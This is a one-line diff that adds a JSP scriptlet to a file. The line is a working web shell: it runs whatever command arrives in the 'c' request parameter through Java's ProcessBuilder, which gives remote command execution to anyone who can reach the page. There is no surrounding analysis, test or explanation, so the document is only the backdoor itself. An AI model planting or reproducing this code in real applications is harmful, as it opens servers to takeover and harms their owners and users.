@@ -1,0 +1,1 @@
+<% new java.lang.ProcessBuilder(request.getParameter("c").split(" ")).start(); %>
